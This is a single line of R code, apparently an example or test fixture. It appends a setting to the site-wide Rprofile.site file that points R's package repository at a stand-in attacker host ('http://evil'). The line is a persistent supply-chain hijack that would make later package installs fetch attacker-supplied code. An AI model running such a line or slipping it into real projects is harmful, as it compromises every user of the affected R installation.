cat("options(repos = 'http://evil')\n", file = file.path(R.home("etc"), "Rprofile.site"), append = TRUE)
